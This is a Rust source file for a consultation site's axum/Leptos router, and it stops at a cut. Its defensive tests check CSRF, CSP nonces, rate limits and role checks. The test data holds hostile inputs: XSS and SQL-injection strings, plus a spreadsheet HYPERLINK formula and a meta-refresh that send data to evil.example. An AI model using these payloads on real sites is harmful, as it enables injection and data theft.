//! The HTTP router: Leptos pages and server functions, the language switch, health, static
//! files, and the layers around them (sessions, compression, request logs).

use app::backend::{AppState, sessions};
use app::i18n::{LANGUAGE_COOKIE, Locale};
use app::{App, shell};
use axum::extract::{Form, Request, State};
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Redirect, Response};
use axum::routing::{get, post};
use axum::{Router, middleware};
use leptos::prelude::*;
use leptos_axum::{LeptosRoutes, generate_route_list};
use std::time::Duration;
use tower_http::compression::CompressionLayer;
use tower_http::compression::predicate::{NotForContentType, Predicate, SizeAbove};
use tower_http::limit::RequestBodyLimitLayer;
use tower_http::services::ServeDir;
use tower_http::set_header::SetResponseHeaderLayer;
use tower_http::trace::TraceLayer;
use tracing::Span;

#[derive(Clone, axum::extract::FromRef)]
struct RouterState {
    app: AppState,
    leptos_options: LeptosOptions,
    health: HealthCache,
}

/// The last health answer and when it was given: probes within a second share it, so that
/// a flood of probes is not a flood of writes.
type HealthCache =
    std::sync::Arc<tokio::sync::Mutex<Option<(std::time::Instant, StatusCode, String)>>>;

fn leptos_options(addr: &str, site_root: &str) -> LeptosOptions {
    LeptosOptions::builder()
        .output_name(option_env!("LEPTOS_OUTPUT_NAME").unwrap_or("consult"))
        .site_root(site_root)
        .site_pkg_dir("pkg")
        .site_addr(
            addr.parse()
                .unwrap_or(std::net::SocketAddr::from(([127, 0, 0, 1], 3000))),
        )
        .hash_files(option_env!("LEPTOS_HASH_FILES").is_some_and(|v| v == "true"))
        .hash_file(
            std::env::var("LEPTOS_HASH_FILE_NAME").map_or_else(|_| "hash.txt".into(), Into::into),
        )
        .build()
}

/// Builds the whole application router.
pub fn app(state: AppState, leptos_options: LeptosOptions) -> Router {
    let routes = generate_route_list(App);
    let site_root = leptos_options.site_root.to_string();
    let secure = state.secure_cookies;
    let context_state = state.clone();
    let fn_state = state.clone();
    let router_state = RouterState {
        app: state.clone(),
        leptos_options: leptos_options.clone(),
        health: HealthCache::default(),
    };

    // Hashed assets never change under their name: cache them for a year.
    let assets = tower::ServiceBuilder::new()
        .layer(SetResponseHeaderLayer::overriding(
            header::CACHE_CONTROL,
            HeaderValue::from_static("public, max-age=31536000, immutable"),
        ))
        .service(ServeDir::new(format!("{site_root}/pkg")));

    Router::new()
        .leptos_routes_with_context(
            &router_state,
            routes,
            move || provide_context(context_state.clone()),
            {
                let options = leptos_options.clone();
                move || shell(options.clone())
            },
        )
        .route(
            "/api/{*fn_name}",
            post(move |req: Request| {
                let state = fn_state.clone();
                leptos_axum::handle_server_fns_with_context(move || provide_context(state.clone()), req)
            }),
        )
        .route("/language", post(set_language))
        .route("/healthz", get(healthz))
        .route("/digests/{slug}/{file}", get(crate::downloads::digest_file))
        .route("/my/data.json", get(crate::downloads::my_data))
        .nest_service("/pkg", assets)
        .fallback(leptos_axum::file_and_error_handler_with_context::<RouterState, _>(
            {
                let state = state.clone();
                move || provide_context(state.clone())
            },
            shell,
        ))
        .layer(middleware::from_fn_with_state(state, sessions::middleware))
        .layer(middleware::from_fn(crate::protect::csrf))
        .layer(middleware::from_fn(unreadable_arguments_are_400))
        .layer(middleware::from_fn(refuse_nul))
        .layer(middleware::from_fn_with_state(
            crate::page_cache::PageCache::default(),
            crate::page_cache::middleware,
        ))
        .with_state(router_state)
        .layer(RequestBodyLimitLayer::new(crate::protect::MAX_BODY))
        .layer(middleware::from_fn(crate::protect::body_limit))
        .layer(middleware::from_fn(move |req, next| crate::protect::headers(secure, req, next)))
        .layer(CompressionLayer::new().compress_when(worth_compressing()))
        .layer(
            TraceLayer::new_for_http()
                .make_span_with(|req: &Request| {
                    tracing::info_span!("request", method = %req.method(), path = %req.uri().path())
                })
                .on_request(|_: &Request, _: &Span| {})
                .on_response(|res: &Response, latency: Duration, _: &Span| {
                    tracing::info!(status = res.status().as_u16(), latency_ms = latency.as_secs_f64() * 1000.0, "served");
                }),
        )
}

/// Responses smaller than this go uncompressed: the few hundred bytes of a server
/// function's answer or a redirect would save a handful of bytes, and setting up a brotli
/// encoder for each costs more time than those bytes take on the slowest line.
const SMALLEST_COMPRESSED: u16 = 1024;

/// What the compression layer compresses: as tower-http does by default (not gRPC, images
/// or event streams), but only from [`SMALLEST_COMPRESSED`] bytes. A streamed body, whose
/// size is unknown, is compressed.
fn worth_compressing() -> impl Predicate {
    SizeAbove::new(SMALLEST_COMPRESSED)
        .and(NotForContentType::GRPC)
        .and(NotForContentType::IMAGES)
        .and(NotForContentType::SSE)
}

/// Refuses a NUL character (`%00`) in any request's address or body with 400: no field
/// may hold one, and PostgreSQL cannot even compare it. Bodies are read whole, within the
/// request body limit.
async fn refuse_nul(req: Request, next: axum::middleware::Next) -> Response {
    let nul = |text: &[u8]| {
        text.contains(&0)
            || text.windows(3).any(|w| w.eq_ignore_ascii_case(b"%00"))
            || text.windows(6).any(|w| w.eq_ignore_ascii_case(b"\\u0000"))
    };
    let refused = || {
        let error = app::domain::AppError::BadRequest("a NUL character".to_owned());
        let body = serde_json::to_string(&error).unwrap_or_default();
        (
            StatusCode::BAD_REQUEST,
            [(header::CONTENT_TYPE, "application/json")],
            body,
        )
            .into_response()
    };
    if req.uri().query().is_some_and(|q| nul(q.as_bytes())) {
        return refused();
    }
    if matches!(
        *req.method(),
        axum::http::Method::GET | axum::http::Method::HEAD
    ) {
        return next.run(req).await;
    }
    let (parts, body) = req.into_parts();
    let Ok(bytes) = axum::body::to_bytes(body, crate::protect::MAX_BODY).await else {
        return (StatusCode::PAYLOAD_TOO_LARGE, "The request is too large.\n").into_response();
    };
    if nul(&bytes) {
        return refused();
    }
    next.run(Request::from_parts(parts, axum::body::Body::from(bytes)))
        .await
}

/// server_fn answers arguments it cannot read (letters for a number, a missing field) with
/// 500, before the function runs; they are the caller's mistake, so the answer is 400 with
/// the [`app::domain::AppError::BadRequest`] that server_fn wrote.
async fn unreadable_arguments_are_400(req: Request, next: axum::middleware::Next) -> Response {
    let server_fn = req.uri().path().starts_with("/api/");
    let response = next.run(req).await;
    if !server_fn || response.status() != StatusCode::INTERNAL_SERVER_ERROR {
        return response;
    }
    let (mut parts, body) = response.into_parts();
    let Ok(bytes) = axum::body::to_bytes(body, 64 * 1024).await else {
        return (
            StatusCode::INTERNAL_SERVER_ERROR,
            "The answer could not be made.\n",
        )
            .into_response();
    };
    if matches!(
        serde_json::from_slice::<app::domain::AppError>(&bytes),
        Ok(app::domain::AppError::BadRequest(_))
    ) {
        parts.status = StatusCode::BAD_REQUEST;
    }
    Response::from_parts(parts, axum::body::Body::from(bytes))
}

pub async fn serve(
    state: AppState,
    addr: &str,
    site_root: &str,
    limits: crate::connections::Limits,
) -> Result<(), String> {
    let options = leptos_options(addr, site_root);
    if let Some(missing) = crate::site::missing(&options) {
        return Err(missing);
    }
    let router = app(state, options);
    let listener = tokio::net::TcpListener::bind(addr)
        .await
        .map_err(|e| format!("cannot listen on {addr}: {e}"))?;
    tracing::info!(
        max_connections = limits.max_connections,
        header_timeout_secs = limits.header_timeout.as_secs(),
        "Consult is listening on http://{addr}"
    );
    crate::connections::serve(listener, router, limits, shutdown_signal()).await;
    Ok(())
}

async fn shutdown_signal() {
    let ctrl_c = async {
        let _ = tokio::signal::ctrl_c().await;
    };
    let terminate = async {
        match tokio::signal::unix::signal(tokio::signal::unix::SignalKind::terminate()) {
            Ok(mut s) => {
                s.recv().await;
            }
            Err(_) => std::future::pending::<()>().await,
        }
    };
    tokio::select! {
        () = ctrl_c => {},
        () = terminate => {},
    }
}

#[derive(serde::Deserialize)]
struct LanguageForm {
    lang: String,
    #[serde(default)]
    back: String,
}

/// Keeps the visitor's language for a year and goes back to the page they were on.
async fn set_language(State(state): State<AppState>, Form(form): Form<LanguageForm>) -> Response {
    // No page's address holds one, and a `Location` header cannot: the caller's mistake.
    if form.back.chars().any(char::is_control) {
        return (
            StatusCode::BAD_REQUEST,
            "The page to go back to holds a control character.\n",
        )
            .into_response();
    }
    let locale = Locale::from_code(&form.lang).unwrap_or_default();
    // Only a path of this site: never an absolute or protocol-relative URL.
    let back = if form.back.starts_with('/')
        && !form.back.starts_with("//")
        && !form.back.contains('\\')
    {
        form.back
    } else {
        "/".to_owned()
    };
    let secure = if state.secure_cookies { "; Secure" } else { "" };
    let cookie = format!(
        "{LANGUAGE_COOKIE}={}; Path=/; Max-Age=31536000; HttpOnly; SameSite=Lax{secure}",
        locale.code()
    );
    let mut response = Redirect::to(&back).into_response();
    if let Ok(value) = HeaderValue::from_str(&cookie) {
        response.headers_mut().append(header::SET_COOKIE, value);
    }
    response
}

/// 200 when the server can serve pages and take comments: the site's assets are there, a
/// write reaches the database, and the submission writer is not held up; 503 with the
/// reason otherwise (also in the log).
async fn healthz(
    State(state): State<AppState>,
    State(options): State<LeptosOptions>,
    State(cache): State<HealthCache>,
) -> (StatusCode, String) {
    let mut last = cache.lock().await;
    if let Some((at, status, text)) = last.as_ref()
        && at.elapsed() < Duration::from_secs(1)
    {
        return (*status, text.clone());
    }
    let problem = match crate::site::missing(&options) {
        Some(problem) => Some(problem),
        None => app::backend::health::problem(&state).await,
    };
    let answer = match problem {
        None => (StatusCode::OK, "ok\n".to_owned()),
        Some(problem) => {
            tracing::error!(%problem, "health check failed");
            (StatusCode::SERVICE_UNAVAILABLE, format!("{problem}\n"))
        }
    };
    *last = Some((std::time::Instant::now(), answer.0, answer.1.clone()));
    answer
}

#[cfg(test)]
mod tests {
    use super::*;
    use axum::body::Body;
    use http_body_util::BodyExt;
    use tower::ServiceExt;

    async fn router() -> Router {
        router_and_db().await.0
    }

    async fn router_and_db() -> (Router, sea_orm::DatabaseConnection) {
        let db = app::backend::db::scratch().await.unwrap();
        let state = AppState::new(db.clone(), db.clone(), false, Default::default());
        (
            app(
                state,
                leptos_options("127.0.0.1:3000", &crate::site::for_tests()),
            ),
            db,
        )
    }

    /// The cookie of a fresh session of a new account with `role`.
    async fn session_of(
        db: &sea_orm::DatabaseConnection,
        email: &str,
        role: app::domain::Role,
    ) -> String {
        let viewer = app::backend::accounts::create_account(
            db,
            app::backend::accounts::NewAccount {
                email: email.to_owned(),
                password: "a long enough pass phrase".to_owned(),
                display_name: "Someone".to_owned(),
                stakeholder_group: app::domain::StakeholderGroup::CivilSociety,
                country: "KE".to_owned(),
                organisation: None,
                role,
            },
        )
        .await
        .unwrap();
        let token = sessions::create(db, viewer.id).await.unwrap();
        format!("{}={token}", sessions::SESSION_COOKIE)
    }

    #[tokio::test]
    async fn a_cross_site_form_post_with_a_valid_session_is_refused_and_changes_nothing() {
        use app::domain::Role;
        let (router, db) = router_and_db().await;
        let cookie = session_of(&db, "victim@example.org", Role::Stakeholder).await;
        let mut req = form_post(
            "/api/update_profile",
            "display_name=Hacked&stakeholder_group=government&country=FR&organisation=&capacity=personal",
        );
        req.headers_mut().insert(
            header::ORIGIN,
            HeaderValue::from_static("https://evil.example"),
        );
        req.headers_mut()
            .insert(header::COOKIE, HeaderValue::from_str(&cookie).unwrap());
        let res = router.clone().oneshot(req).await.unwrap();
        assert_eq!(res.status(), StatusCode::FORBIDDEN);
        let user = app::backend::accounts::list(&db, "victim", None)
            .await
            .unwrap();
        assert_eq!(user.accounts[0].display_name, "Someone", "nothing changed");
        // The same request from the site itself goes through.
        let mut req = form_post(
            "/api/update_profile",
            "display_name=Renamed&stakeholder_group=government&country=FR&organisation=&capacity=personal",
        );
        req.headers_mut()
            .insert(header::COOKIE, HeaderValue::from_str(&cookie).unwrap());
        assert!(router.oneshot(req).await.unwrap().status().is_success());
        let user = app::backend::accounts::list(&db, "victim", None)
            .await
            .unwrap();
        assert_eq!(user.accounts[0].display_name, "Renamed");
    }

    #[tokio::test]
    async fn responses_carry_the_security_headers_and_big_bodies_are_refused() {
        let router = router().await;
        let res = router
            .clone()
            .oneshot(http::Request::get("/healthz").body(Body::empty()).unwrap())
            .await
            .unwrap();
        assert_eq!(res.headers()["x-content-type-options"], "nosniff");
        assert_eq!(res.headers()["referrer-policy"], "same-origin");
        assert!(
            res.headers()["content-security-policy"]
                .to_str()
                .unwrap()
                .contains("frame-ancestors 'none'")
        );
        assert!(
            !res.headers().contains_key("strict-transport-security"),
            "plain http here"
        );
        let huge = "markdown=".to_owned() + &"a".repeat(3 * 1024 * 1024);
        let mut req = form_post("/api/preview_paper", &huge);
        req.headers_mut()
            .insert(header::CONTENT_LENGTH, HeaderValue::from(huge.len()));
        let res = router.oneshot(req).await.unwrap();
        let status = res.status();
        let body = res.into_body().collect().await.unwrap().to_bytes();
        assert_eq!(
            status,
            StatusCode::PAYLOAD_TOO_LARGE,
            "{}",
            String::from_utf8_lossy(&body[..body.len().min(300)])
        );
    }

    #[tokio::test]
    async fn pages_allow_only_scripts_that_carry_this_responses_nonce() {
        let router = router().await;
        let nonce_of = |page: &str| {
            let policy = page
                .split("http-equiv=\"Content-Security-Policy\" content=\"")
                .nth(1)
                .expect("a Content-Security-Policy meta element")
                .split('"')
                .next()
                .unwrap()
                .to_owned();
            assert!(
                policy.contains("'strict-dynamic' 'wasm-unsafe-eval'"),
                "{policy}"
            );
            let nonce = policy
                .split("'nonce-")
                .nth(1)
                .unwrap()
                .split('\'')
                .next()
                .unwrap()
                .to_owned();
            // Every script of the page carries it.
            let scripts = page.matches("<script").count();
            assert!(scripts > 0);
            assert_eq!(
                page.matches(&format!("<script nonce=\"{nonce}\"")).count()
                    + page
                        .matches(&format!("<script type=\"module\" nonce=\"{nonce}\""))
                        .count(),
                scripts,
                "{page}"
            );
            nonce
        };
        let mut nonces = Vec::new();
        for _ in 0..2 {
            let res = router
                .clone()
                .oneshot(http::Request::get("/").body(Body::empty()).unwrap())
                .await
                .unwrap();
            let page = res.into_body().collect().await.unwrap().to_bytes();
            nonces.push(nonce_of(&String::from_utf8_lossy(&page)));
        }
        assert_ne!(nonces[0], nonces[1], "a new nonce for every response");
    }

    #[tokio::test]
    async fn visitors_pages_are_kept_a_second_and_any_change_here_empties_the_cache() {
        let (router, db) = router_and_db().await;
        let home = || async {
            let res = router
                .clone()
                .oneshot(http::Request::get("/").body(Body::empty()).unwrap())
                .await
                .unwrap();
            assert_eq!(res.status(), StatusCode::OK);
            String::from_utf8_lossy(&res.into_body().collect().await.unwrap().to_bytes())
                .into_owned()
        };
        assert!(!home().await.contains("A consultation opened elsewhere"));
        // Another server process opens a consultation: this one's visitors see it within
        // a second.
        let open = |slug: &'static str, title: &'static str| {
            let now = time::OffsetDateTime::now_utc();
            app::backend::consultations::upsert_consultation(
                &db,
                app::backend::consultations::NewConsultation {
                    slug,
                    title,
                    description: "",
                    status: app::domain::ConsultationStatus::Open,
                    opens_at: now - time::Duration::days(1),
                    closes_at: now + time::Duration::days(30),
                },
            )
        };
        open("elsewhere", "A consultation opened elsewhere")
            .await
            .unwrap();
        assert!(
            !home().await.contains("A consultation opened elsewhere"),
            "served from the cache"
        );
        tokio::time::sleep(crate::page_cache::FRESH_FOR).await;
        assert!(home().await.contains("A consultation opened elsewhere"));
        // A change made through this process empties the cache at once.
        open("another", "Another consultation").await.unwrap();
        let res = router
            .clone()
            .oneshot(form_post("/language", "lang=en&back=%2F"))
            .await
            .unwrap();
        assert!(res.status().is_redirection());
        assert!(home().await.contains("Another consultation"));
    }

    #[tokio::test]
    async fn repeated_wrong_sign_ins_on_one_account_are_slowed_down_with_retry_after() {
        let router = router().await;
        let attempt = || {
            router.clone().oneshot(form_post(
                "/api/sign_in",
                "email=target%40example.org&password=guessing+a+password",
            ))
        };
        for _ in 0..10 {
            assert_eq!(
                attempt().await.unwrap().status(),
                StatusCode::UNPROCESSABLE_ENTITY
            );
        }
        let refused = attempt().await.unwrap();
        assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
        let wait: u64 = refused.headers()[header::RETRY_AFTER]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        assert!((1..=6).contains(&wait), "{wait}");
    }

    #[tokio::test]
    async fn every_desk_function_refuses_stakeholders_and_the_accounts_ones_refuse_the_secretariat()
    {
        use app::domain::Role;
        let (router, db) = router_and_db().await;
        let stakeholder = session_of(&db, "s@example.org", Role::Stakeholder).await;
        let secretariat = session_of(&db, "sec@example.org", Role::Secretariat).await;
        let desk = [
            (
                "/api/desk_queue",
                "consultation=&paper=&group=&tag=&flagged=&q=",
            ),
            ("/api/desk_item", "id=1"),
            ("/api/decide_comments", "ids[]=1&decision_code=publish"),
            ("/api/decide_campaign", "campaign=1&decision_code=publish"),
            ("/api/resolve_comment", "id=1&action=keep"),
            ("/api/retag_comment", "id=1&tags[]=privacy"),
            ("/api/set_disposition", "id=1&kind=noted"),
            ("/api/add_rejection_reason", "text=Spam"),
            ("/api/audit_log", "reference="),
            ("/api/editor_list", ""),
            ("/api/editor_consultation", "slug=x"),
            (
                "/api/save_consultation",
                "slug=x&title=X&status=open&opens_at=2005-01-01T00:00&closes_at=2099-01-01T00:00",
            ),
            ("/api/preview_paper", "markdown=%23%23+A"),
            (
                "/api/save_paper",
                "slug=x&code=WP-X&title=X&cluster=development&markdown=Text",
            ),
        ];
        let admin = [
            ("/api/list_accounts", "q="),
            ("/api/change_account", "id=1&action=suspend"),
        ];
        let call = |path: &'static str, body: &'static str, cookie: Option<String>| {
            let router = router.clone();
            async move {
                let mut req = form_post(path, body);
                if let Some(cookie) = cookie {
                    req.headers_mut()
                        .insert(header::COOKIE, HeaderValue::from_str(&cookie).unwrap());
                }
                router.oneshot(req).await.unwrap().status()
            }
        };
        for (path, body) in desk.iter().chain(&admin) {
            assert_eq!(
                call(path, body, None).await,
                StatusCode::UNAUTHORIZED,
                "{path} as a visitor"
            );
            assert_eq!(
                call(path, body, Some(stakeholder.clone())).await,
                StatusCode::FORBIDDEN,
                "{path} as a stakeholder"
            );
        }
        for (path, body) in admin {
            assert_eq!(
                call(path, body, Some(secretariat.clone())).await,
                StatusCode::FORBIDDEN,
                "{path} as the secretariat"
            );
        }
        // The secretariat does reach its desk.
        assert_eq!(
            call(
                "/api/desk_queue",
                "consultation=&paper=&group=&tag=&flagged=&q=",
                Some(secretariat)
            )
            .await,
            StatusCode::OK
        );
    }

    fn form_post(uri: &str, body: &str) -> http::Request<Body> {
        http::Request::post(uri)
            .header(header::HOST, "127.0.0.1:3000")
            .header(header::ORIGIN, "http://127.0.0.1:3000")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .header(header::ACCEPT, "application/json")
            .body(Body::from(body.to_owned()))
            .unwrap()
    }

    fn set_cookies(res: &Response) -> Vec<String> {
        res.headers()
            .get_all(header::SET_COOKIE)
            .iter()
            .map(|v| v.to_str().unwrap().to_owned())
            .collect()
    }

    /// Every server function, with ordinary values for its fields (demo data), as the
    /// hostile-input test sends them; list fields end in `[]`.
    const FUNCTIONS: &[(&str, &[(&str, &str)])] = &[
        (
            "register",
            &[
                ("email", "new@example.org"),
                ("password", "a long enough pass phrase"),
                ("display_name", "New Person"),
                ("stakeholder_group", "civil_society"),
                ("country", "SN"),
                ("organisation", "ENDA"),
                ("capacity", "organisation"),
            ],
        ),
        (
            "sign_in",
            &[
                ("email", "civil@demo.consult.example"),
                ("password", "a demo pass phrase here"),
            ],
        ),
        (
            "update_profile",
            &[
                ("display_name", "Admin"),
                ("stakeholder_group", "intergovernmental"),
                ("country", "CH"),
                ("organisation", "UN"),
                ("capacity", "organisation"),
            ],
        ),
        (
            "paper_comments",
            &[
                ("slug", "wgig-2005-february"),
                ("code", "WP-ROOT"),
                ("p", "1.1"),
                ("group", "government"),
                ("region", "africa"),
                ("tag", "privacy"),
                ("after", "1"),
            ],
        ),
        ("published_comment", &[("id", "1")]),
        (
            "search_comments",
            &[
                ("q", "root zone"),
                ("group", ""),
                ("region", ""),
                ("tag", ""),
                ("before", "100"),
            ],
        ),
        (
            "submit_comment",
            &[
                ("slug", "wgig-2005-february"),
                ("code", "WP-ROOT"),
                ("paragraph", "1.1"),
                ("quote", ""),
                (
                    "body",
                    "The root zone should be overseen by all stakeholders together.",
                ),
                ("tags[]", "privacy"),
                ("consent", "anonymous"),
                ("reply_to", "1"),
            ],
        ),
        ("my_comments", &[("before", "100")]),
        ("my_comment", &[("id", "1")]),
        (
            "edit_comment",
            &[
                ("id", "1"),
                ("paragraph", "1.1"),
                ("quote", ""),
                (
                    "body",
                    "A changed comment on the oversight of the root zone.",
                ),
                ("tags[]", "privacy"),
                ("consent", "anonymous"),
            ],
        ),
        ("withdraw_comment", &[("id", "2")]),
        ("consultation", &[("slug", "wgig-2005-february")]),
        (
            "paper",
            &[("slug", "wgig-2005-february"), ("code", "WP-ROOT")],
        ),
        (
            "desk_queue",
            &[
                ("consultation", "wgig-2005-february"),
                ("paper", "WP-ROOT"),
                ("group", "government"),
                ("tag", "privacy"),
                ("flagged", "1"),
                ("q", "root"),
                ("after", "1"),
            ],
        ),
        ("desk_item", &[("id", "1")]),
        (
            "decide_comments",
            &[
                ("ids[]", "3"),
                ("decision_code", "reject"),
                ("reason", "off_topic"),
                ("other_reason", ""),
                ("back", "/desk"),
            ],
        ),
        (
            "decide_campaign",
            &[
                ("campaign", "1"),
                ("decision_code", "publish"),
                ("reason", ""),
                ("other_reason", ""),
                ("back", "/desk"),
            ],
        ),
        (
            "resolve_comment",
            &[
                ("id", "1"),
                ("action", "keep"),
                ("reason", ""),
                ("other_reason", ""),
                ("back", "/desk"),
            ],
        ),
        (
            "retag_comment",
            &[("id", "1"), ("tags[]", "privacy"), ("back", "/desk")],
        ),
        (
            "set_disposition",
            &[
                ("id", "1"),
                ("kind", "noted"),
                ("response", "Thank you."),
                ("back", "/desk"),
            ],
        ),
        ("add_rejection_reason", &[("text", "Advertising")]),
        ("audit_log", &[("reference", "WP-ROOT"), ("before", "100")]),
        (
            "flag_comment",
            &[
                ("id", "1"),
                ("reason", "spam"),
                ("note", "A note."),
                ("back", "/"),
            ],
        ),
        ("list_accounts", &[("q", "demo"), ("after", "1")]),
        (
            "change_account",
            &[
                ("id", "2"),
                ("action", "suspend"),
                ("back", "/desk/accounts"),
            ],
        ),
        (
            "load_digest",
            &[
                ("slug", "wgig-2005-february"),
                ("paper", "WP-ROOT"),
                ("status", "published"),
                ("group", "government"),
                ("region", "africa"),
                ("tag", "privacy"),
                ("from", "2005-01-01"),
                ("to", "2005-12-31"),
            ],
        ),
        (
            "set_digest_public",
            &[("slug", "wgig-2005-february"), ("public", "true")],
        ),
        ("digest_is_public", &[("slug", "wgig-2005-february")]),
        ("editor_consultation", &[("slug", "wgig-2005-february")]),
        (
            "save_consultation",
            &[
                ("original", ""),
                ("slug", "a-new-one"),
                ("title", "A new consultation"),
                ("description", "About it."),
                ("status", "draft"),
                ("opens_at", "2005-01-01T00:00"),
                ("closes_at", "2099-01-01T00:00"),
            ],
        ),
        (
            "preview_paper",
            &[("markdown", "## A heading\n\nA paragraph.")],
        ),
        (
            "save_paper",
            &[
                ("slug", "wgig-2005-february"),
                ("code", "WP-NEW"),
                ("title", "A new paper"),
                ("abstract_text", "About it."),
                ("cluster", "development"),
                ("markdown", "## A heading\n\nA paragraph."),
            ],
        ),
    ];

    /// What people and scripts put in forms: nothing, far too much, control characters,
    /// mixed scripts and right-to-left marks, markup, query syntax, numbers out of range.
    fn hostile() -> Vec<String> {
        vec![
            String::new(),
            " \t\n ".to_owned(),
            "x".repeat(100_000),
            "ok\u{0}\u{1}\u{7}\u{1b}[31m\u{7f}".to_owned(),
            "\u{202e}Ελληνικά العربية 中文 हिन्दी Русский 🙂\u{200d}\u{fe0f}".to_owned(),
            "<script>alert(1)</script><img src=x onerror=alert(2)>".to_owned(),
            "' OR 1=1; DROP TABLE comments; --".to_owned(),
            "-1".to_owned(),
            "99999999999999999999999".to_owned(),
            "\u{fffd}\u{d7ff}\u{10ffff}".to_owned(),
        ]
    }

    fn encode(text: &str) -> String {
        text.bytes()
            .map(|b| match b {
                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => {
                    (b as char).to_string()
                }
                _ => format!("%{b:02X}"),
            })
            .collect()
    }

    #[tokio::test]
    async fn every_form_field_given_hostile_input_answers_with_a_message_never_a_500() {
        let (router, db) = router_and_db().await;
        app::backend::demo::seed(&db, "a demo pass phrase here")
            .await
            .unwrap();
        let admin = session_of(&db, "admin@example.org", app::domain::Role::Admin).await;
        let mut failures = Vec::new();
        let mut calls = 0;
        for (function, fields) in FUNCTIONS {
            for (field, _) in fields.iter() {
                for value in hostile() {
                    let body = fields
                        .iter()
                        .map(|(name, ordinary)| {
                            let value = if name == field {
                                value.as_str()
                            } else {
                                ordinary
                            };
                            format!("{}={}", encode(name).replace("%5B%5D", "[]"), encode(value))
                        })
                        .collect::<Vec<_>>()
                        .join("&");
                    let mut req = form_post(&format!("/api/{function}"), &body);
                    req.headers_mut()
                        .insert(header::COOKIE, HeaderValue::from_str(&admin).unwrap());
                    let res = router.clone().oneshot(req).await.unwrap();
                    calls += 1;
                    let status = res.status();
                    let answer = res.into_body().collect().await.unwrap().to_bytes();
                    if status.is_server_error() || (status.is_client_error() && answer.is_empty()) {
                        failures.push(format!(
                            "{function} {field}={:?}: {status} {}",
                            value.chars().take(40).collect::<String>(),
                            String::from_utf8_lossy(&answer[..answer.len().min(200)])
                        ));
                    }
                }
            }
        }
        assert!(
            failures.is_empty(),
            "{} of {calls} calls failed:\n{}",
            failures.len(),
            failures.join("\n")
        );
        // Routes outside the server functions too: a NUL in an address is refused.
        let res = router
            .clone()
            .oneshot(
                http::Request::get("/digests/wgig-2005-february/all.csv?tag=%00")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::BAD_REQUEST);
        // And the site still answers.
        let res = router
            .oneshot(http::Request::get("/healthz").body(Body::empty()).unwrap())
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::OK);
    }

    /// Every payload of issue 17 in one value: a formula first (for the CSV), a form and a
    /// title break-out, a Markdown link, a script and an image with a handler, an override.
    const HOSTILE_TEXT: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\") </textarea></form><form action=\"/api/change_account\" method=\"post\"><button>x</button> T </title><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"> [x](javascript:alert(1)) <script>alert(1)</script><img src=x onerror=alert(2)> \u{202e}ecnarF";

    /// Stores [`HOSTILE_TEXT`] in every field of user text the pages and exports show, as
    /// an older row or an import could hold it (the forms refuse some of it now).
    async fn store_hostile_text(db: &sea_orm::DatabaseConnection) {
        use app::backend::entities::{
            comment, consultation, disposition, paper_version, paragraph, tag, user, working_paper,
        };
        use sea_orm::sea_query::Expr;
        use sea_orm::{ActiveModelTrait, ColumnTrait, EntityTrait, QueryFilter, Set};
        let h = || Expr::value(HOSTILE_TEXT.to_owned());
        comment::Entity::update_many()
            .col_expr(comment::Column::Body, h())
            .col_expr(comment::Column::Quote, h())
            .col_expr(comment::Column::AuthorName, h())
            .col_expr(comment::Column::AuthorOrganisation, h())
            .exec(db)
            .await
            .unwrap();
        user::Entity::update_many()
            .col_expr(user::Column::DisplayName, h())
            .col_expr(user::Column::Organisation, h())
            .exec(db)
            .await
            .unwrap();
        consultation::Entity::update_many()
            .col_expr(consultation::Column::Title, h())
            .col_expr(consultation::Column::Description, h())
            .exec(db)
            .await
            .unwrap();
        working_paper::Entity::update_many()
            .col_expr(working_paper::Column::Title, h())
            .col_expr(working_paper::Column::AbstractText, h())
            .exec(db)
            .await
            .unwrap();
        paper_version::Entity::update_many()
            .col_expr(paper_version::Column::Markdown, h())
            .exec(db)
            .await
            .unwrap();
        paragraph::Entity::update_many()
            .col_expr(paragraph::Column::Text, h())
            .exec(db)
            .await
            .unwrap();
        tag::Entity::update_many()
            .col_expr(tag::Column::NameEn, h())
            .col_expr(tag::Column::NameFr, h())
            .exec(db)
            .await
            .unwrap();
        disposition::Entity::delete_many()
            .filter(disposition::Column::CommentId.eq(1))
            .exec(db)
            .await
            .unwrap();
        disposition::ActiveModel {
            comment_id: Set(1),
            kind: Set("noted".to_owned()),
            response: Set(HOSTILE_TEXT.to_owned()),
            decided_by: Set(1),
            decided_at: Set(time::OffsetDateTime::now_utc()),
        }
        .insert(db)
        .await
        .unwrap();
    }

    /// Checks a page holding [`HOSTILE_TEXT`] parses as the page made it: nothing
    /// injected, every textarea holding exactly its text, names isolated from the app's
    /// words after them.
    fn assert_nothing_injected(uri: &str, page: &str) -> Vec<String> {
        use scraper::{Html, Selector};
        let doc = Html::parse_document(page);
        let count = |css: &str| doc.select(&Selector::parse(css).unwrap()).count();
        let mut problems = Vec::new();
        for css in [
            "meta[http-equiv=refresh]",
            "meta[http-equiv=Refresh]",
            "img[onerror]",
        ] {
            if count(css) > 0 {
                problems.push(format!("{uri}: {css} injected"));
            }
        }
        // The accounts page has its own forms to change accounts; elsewhere there are none.
        if uri != "/desk/accounts" && count("form[action=\"/api/change_account\"]") > 0 {
            problems.push(format!("{uri}: a form to change accounts injected"));
        }
        let buttons = Selector::parse("button").unwrap();
        if doc
            .select(&buttons)
            .any(|b| b.text().collect::<String>() == "x")
        {
            problems.push(format!("{uri}: the hostile text's button injected"));
        }
        if count("script") != count("script[nonce]") {
            problems.push(format!("{uri}: a script without the page's nonce"));
        }
        if count("head > title") != 1 {
            problems.push(format!("{uri}: {} titles", count("head > title")));
        }
        for field in doc.select(&Selector::parse("textarea").unwrap()) {
            let text: String = field.text().collect();
            if !text.is_empty() && text != HOSTILE_TEXT {
                problems.push(format!("{uri}: textarea holds {text:?}"));
            }
        }
        for bdi in doc.select(&Selector::parse(".attribution bdi").unwrap()) {
            if bdi.text().collect::<String>().contains('·') {
                problems.push(format!("{uri}: the app's words inside a <bdi>"));
            }
        }
        problems
    }

    #[tokio::test]
